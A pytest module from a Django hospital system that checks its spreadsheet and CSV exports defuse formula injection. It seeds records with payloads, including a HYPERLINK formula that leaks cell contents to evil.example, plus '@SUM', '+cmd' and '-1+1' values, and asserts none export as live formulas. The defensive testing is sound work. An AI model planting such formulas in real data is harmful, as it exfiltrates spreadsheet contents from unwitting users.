"""Every XLSX/CSV export of the project writes formula-like text as text (OWASP CSV injection).

The test walks the whole URL configuration: an export (an address ending in .xlsx or
.csv) without a case here fails, so a new export cannot skip the check.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from hospital.exports import csv_bytes, csv_text
from inventory import services
from inventory.models import Lot
from performance import services as performance
from performance.models import CostCategory, ScorecardDimension
from staffing.models import Roster
from tests.equipment.factories import EquipmentFactory, PlanFactory, WorkOrderFactory
from tests.inventory.factories import ItemFactory, StoreFactory, receive_lot
from tests.okr.factories import CycleFactory, KeyResultFactory, ObjectiveFactory
from tests.quality.factories import AdverseEventFactory
from tests.staffing.pages.builders import add_profiles, fill, make_shift_types

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def export_url_names(patterns=None, namespace=""):
    for entry in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from export_url_names(entry.url_patterns, inner)
        elif isinstance(entry, URLPattern) and str(entry.pattern).endswith((".xlsx", ".csv")):
            yield f"{namespace}{entry.name}"


def okr_review_export(hospital):
    cycle = CycleFactory(name="+2026")
    objective = ObjectiveFactory(cycle=cycle, title=EVIL, owner=hospital.admin)
    KeyResultFactory(objective=objective, title="@SUM(A1:A9)")
    return reverse("okr:quarterly_export", args=[cycle.pk])


def quality_event_export(hospital):
    hospital.cardiology.name = EVIL
    hospital.cardiology.save()
    AdverseEventFactory(department=hospital.cardiology, reference="-1+1")
    return reverse("quality:export_events")


def equipment_register_export(hospital):
    EquipmentFactory(department=hospital.icu, asset_tag="-1+1", name=EVIL, manufacturer="@SUM(A1:A9)")
    return reverse("equipment:export_register")


def equipment_compliance_export(hospital):
    device = EquipmentFactory(department=hospital.icu, asset_tag="=1+1", name=EVIL)
    plan = PlanFactory(equipment=device)
    WorkOrderFactory(equipment=device, plan=plan, kind=plan.kind, due_date=plan.next_due)
    return reverse("equipment:export_compliance") + f"?start={plan.next_due}&end={plan.next_due}"


def _evil_stock(hospital):
    store = StoreFactory(name=EVIL, keepers=[hospital.admin])
    item = ItemFactory(name="@SUM(A1:A9)", base_unit="+cmd")
    receive_lot(user=hospital.admin, store=store, item=item, quantity=5, lot="-1+1", days=20, override="=1+1")


def inventory_balance_export(hospital):
    _evil_stock(hospital)
    return reverse("inventory:export_balances")


def inventory_expiry_export(hospital):
    _evil_stock(hospital)
    return reverse("inventory:export_expiry") + "?days=30"


def inventory_consumption_export(hospital):
    _evil_stock(hospital)
    hospital.cardiology.name = EVIL
    hospital.cardiology.save()
    store = hospital.admin.kept_stores.get()
    item = store.balances.get().item
    services.issue(user=hospital.admin, store=store, item=item, quantity=1, department=hospital.cardiology)
    return reverse("inventory:export_consumption")


def inventory_recall_export(hospital):
    _evil_stock(hospital)
    return reverse("inventory:export_recall", args=[Lot.objects.get(number="-1+1").pk])


def _evil_costs(hospital):
    hospital.cardiology.name = EVIL
    hospital.cardiology.save()
    category = CostCategory.objects.get(code="drugs")
    category.name = "@SUM(A1:A9)"
    category.save()
    month = timezone.localdate().replace(day=1)
    performance.record_cost_entry(
        department=hospital.cardiology,
        month=month,
        category=category,
        amount="-5.00",
        user=hospital.admin,
        reference="=1+1",
    )
    return f"?first={month:%Y-%m}&last={month:%Y-%m}"


def performance_export(url_name):
    return lambda hospital: reverse(url_name) + _evil_costs(hospital)


def performance_scorecard_export(url_name):
    def build(hospital):
        hospital.cardiology.name = EVIL
        hospital.cardiology.save()
        ScorecardDimension.objects.filter(code=ScorecardDimension.objects.first().code).update(name="=1+1")
        return reverse(url_name) + "?month=2026-03"

    return build


def _evil_roster(hospital):
    hospital.nurse_icu.display_name = EVIL
    hospital.nurse_icu.save()
    add_profiles(hospital.nurse_icu)
    roster = Roster.objects.create(
        department=hospital.icu, first_day=dt.date(2026, 1, 5), length_days=7, status="published"
    )
    fill(roster, [hospital.nurse_icu], make_shift_types())
    return roster


def staffing_roster_export(hospital):
    return reverse("staffing:export_roster", args=[_evil_roster(hospital).pk])


def staffing_hours_export(hospital):
    return reverse("staffing:export_hours", args=[_evil_roster(hospital).pk])


CASES = {
    "okr:quarterly_export": okr_review_export,
    "quality:export_events": quality_event_export,
    "equipment:export_register": equipment_register_export,
    "equipment:export_compliance": equipment_compliance_export,
    "inventory:export_consumption": inventory_consumption_export,
    "inventory:export_recall": inventory_recall_export,
    "inventory:export_balances": inventory_balance_export,
    "inventory:export_expiry": inventory_expiry_export,
    "performance:budget_xlsx": performance_export("performance:budget_xlsx"),
    "performance:budget_csv": performance_export("performance:budget_csv"),
    "performance:costs_xlsx": performance_export("performance:costs_xlsx"),
    "performance:costs_csv": performance_export("performance:costs_csv"),
    "performance:scorecard_xlsx": performance_scorecard_export("performance:scorecard_xlsx"),
    "performance:scorecard_csv": performance_scorecard_export("performance:scorecard_csv"),
    "staffing:export_roster": staffing_roster_export,
    "staffing:export_hours": staffing_hours_export,
}


def test_every_export_has_a_formula_injection_case():
    assert set(export_url_names()) == set(CASES)


@pytest.mark.parametrize("url_name", sorted(CASES))
def test_no_cell_of_an_export_is_a_formula(hospital, client_for, url_name):
    url = CASES[url_name](hospital)
    response = client_for(hospital.admin).get(url)
    assert response.status_code == 200
    if response["Content-Type"].startswith("text/csv"):
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert all(cell for cell in rows[0]), "a CSV has a header row"
        assert not [c for c in cells if c.startswith(("=", "@", "+")) or (c.startswith("-") and not _is_number(c))]
        assert any(c.startswith("'") for c in cells)  # the evil text is there, defused
        return
    workbook = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in workbook.worksheets:
        assert sheet.max_row >= 1 and all(cell.value for cell in sheet[1]), "every sheet has a header row"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                texts.append(cell.value)
    assert any(isinstance(t, str) and t.startswith(("=", "@", "-", "+")) for t in texts)  # the evil text is there


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_cells_that_look_like_formulas_get_an_apostrophe():
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("\tcmd") == "'\tcmd"
    assert csv_text("Cardiology") == "Cardiology"
    assert csv_text(-3) == "-3"  # a negative number is a number
    body = csv_bytes(["Name"], [["@SUM(A1)"]]).decode("utf-8-sig")
    assert body.splitlines() == ["Name", "'@SUM(A1)"]
